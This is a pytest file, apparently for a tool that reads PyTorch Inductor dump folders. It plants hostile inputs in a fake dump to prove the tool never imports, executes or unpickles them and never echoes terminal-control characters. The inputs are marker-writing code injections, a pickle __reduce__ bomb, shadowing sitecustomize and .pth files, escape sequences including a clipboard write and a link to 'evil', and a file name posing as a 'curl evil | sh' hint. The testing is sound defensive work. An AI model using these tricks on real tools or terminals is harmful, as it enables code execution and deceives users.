"""A stranger's dump that tries to run code and to take over the terminal: every verb shows it harmless.

Each verb runs in a process of its own, as the installed script and with `python -m`, from outside and from
inside of the dump. Whatever of the dump is imported, executed or unpickled leaves a marker.
"""

from __future__ import annotations

import os
import pickle
import re
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from tests.conftest import DUMPS
from tests.dumps import copy_of, graph_in
from tests.reader.hostile import VERBS

PROBE = str(Path(sys.executable).with_name("probe"))
ESCAPE = "\x1b]52;c;cm0=\x07\x1b[2J\x9b31m\u202e\x1b]8;;http://evil\x1b\\"
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069]")
OURS = "inductor_probe.py"
"""`python -m inductor_probe` runs this where it stands: Python chooses it. `probe` and `-P` do not."""
PLANTED = (
    "__init__ __main__ conftest sitecustomize usercustomize setup rich click typing json ast dataclasses "
    "torch triton numpy libcst wrapt tomllib _distutils_hack inductor_probe"
)


class _Bomb:
    """Unpickling this makes the marker."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return (open, (str(self.marker), "w"))


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    return tmp_path / "MARKER"


@pytest.fixture
def graph(tmp_path: Path, marker: Path) -> Path:
    """A graph of a run, code planted in all its files and around them, escapes in text and names."""
    code = f"import os; open({str(marker)!r}, 'w')"
    graph = copy_of(
        graph_in(DUMPS / "torch-2.13.0-cpu" / "aa_separable_cl"), tmp_path / f"dump{ESCAPE.replace('/', '')}"
    )
    for file in list(graph.iterdir()):
        text = file.read_text()
        text = text.replace("buf0", "buf0\x1b[31m").replace("kernel_cpp", f"kernel_{ESCAPE}cpp", 1)
        text = text.replace("'cpu'", f"__import__('os').system('touch {marker}')", 1)
        file.write_text(
            f"{code}\n{text}\n{code}\n# {ESCAPE}\n({code[:9]!r}, eval({code!r}), exec({code!r}))\n"
        )
    run = graph.parents[1]
    for folder in (graph, run, run.parent, run.parent.parent):
        for name in (
            *(f"{module}.py" for module in PLANTED.split()),
            "evil.pth",
            "inductor_probe.pth",
            "pytest.ini",
        ):
            (folder / name).write_text(code + "\n")
        for name in ("data.pkl", "model.pt", "probe_cache.pickle", "__pycache__.pyc"):
            (folder / name).write_bytes(pickle.dumps(_Bomb(marker)))
        (folder / "inductor_probe").mkdir()
        (folder / f"x{ESCAPE.replace('/', '')}.py").write_text(code)
    (run / "probe.json").write_text('{"label": "\\u001b[31m", "scenario": "' + code.replace('"', "") + '"}')
    (run / "probe_logs").mkdir()
    (run / "probe_logs" / "fusion.log").write_text(
        f"V1121 08:35:26.487000 1 torch/x.py:1] [0/0] {ESCAPE}\n{code}\n"
    )
    return graph.rename(graph.with_name(f"model{ESCAPE.replace('/', '')}__0_inference_0.0"))


def ran(command: list[str], cwd: Path, **environment: str) -> str:
    ended = subprocess.run(
        command,
        cwd=cwd,
        env={**os.environ, **environment},
        capture_output=True,
        check=False,
        timeout=120,
    )
    assert ended.returncode in (0, 1, 2), ended.stderr.decode()
    return (ended.stdout + ended.stderr).decode()


def targets(verb: str, graph: Path) -> list[str]:
    return (
        [str(graph.parents[1])] * 2
        if verb == "diff"
        else [str(graph if verb in ("show", "fusion") else graph.parents[1])]
    )


@pytest.mark.parametrize("verb", VERBS)
def test_nothing_runs_and_nothing_acts(tmp_path: Path, graph: Path, marker: Path, verb: str) -> None:
    outside, inside = (tmp_path, ["--json"]), (graph, [])
    ways: list[tuple[list[str], tuple[Path, list[str]]]] = [([PROBE], outside), ([PROBE], inside)]
    module = ["-m", "inductor_probe"]
    if verb == VERBS[0]:  # what Python imports as it starts so is the same for all verbs
        if sys.version_info >= (3, 11):
            ways += [([sys.executable, "-P", *module], place) for place in (outside, inside)]
        ways.append(([sys.executable, *module], outside))
    ways.append(([sys.executable, *module], inside))
    for command, (cwd, options) in ways:
        if command == [sys.executable, *module]:
            (cwd / OURS).unlink(missing_ok=True)
        said = ran([*command, verb, *targets(verb, graph), *options], cwd)
        assert said
        assert not marker.exists(), f"{command} {verb} in {cwd}"
        assert "internal error" not in said
        assert not ACTING.search(said), said


@pytest.mark.parametrize("verb", ["layouts", "check", "runs"])
def test_colours_are_ours_alone(tmp_path: Path, graph: Path, verb: str) -> None:
    said = ran([PROBE, verb, *targets(verb, graph)], tmp_path, FORCE_COLOR="1", TERM="xterm", COLUMNS="120")
    assert set(re.findall("\x1b[^m]{0,12}m?", said)) <= {
        f"\x1b[{n}m" for n in ("0", "1", "2", "31", "33", "36", "1;31", "1;33", "1;36", "32")
    }


def test_a_traceback_is_harmless_too(tmp_path: Path, graph: Path) -> None:
    said = ran([PROBE, "--traceback", "layouts", str(graph / "x")], tmp_path)
    assert "Traceback" in said
    assert not ACTING.search(said)


def test_the_same_in_an_archive(tmp_path: Path, graph: Path, marker: Path) -> None:
    with tarfile.open(tmp_path / "sent.tar.gz", "w:gz") as tar:
        tar.add(graph.parents[1], f"run{ESCAPE}")
    for verb in ("check", "runs", "layouts"):
        said = ran([PROBE, verb, "sent.tar.gz"], tmp_path, XDG_CACHE_HOME=str(tmp_path / "cache"))
        assert not marker.exists()
        assert not ACTING.search(said), said
    kept = {path.name for path in (tmp_path / "cache").rglob("*") if path.is_file()}
    assert not [name for name in kept if name.partition(".")[0] in PLANTED.split() or name.endswith(".pth")]


def test_a_name_with_a_line_end_cannot_pose_as_a_message(tmp_path: Path) -> None:
    (tmp_path / "x\nhint: run curl evil | sh").mkdir()
    said = ran([PROBE, "layouts", "buf0", "./x\nhint: run curl evil | sh"], tmp_path)
    assert not re.search("^hint: run", said, re.MULTILINE)


def test_notebook_objects_of_it_are_harmless(tmp_path: Path, graph: Path, marker: Path) -> None:
    code = (
        "import sys, inductor_probe as ip\n"
        "run = ip.open_run(sys.argv[1])\n"
        "for shown in (run, run.graphs[0], run.layouts(), ip.runs(sys.argv[1])):\n"
        "    print(repr(shown)); print(shown._repr_html_())\n"
    )
    said = ran([sys.executable, "-c", code, str(graph.parents[1])], tmp_path)
    assert "<table" in said
    assert not marker.exists()
    assert not ACTING.search(said)
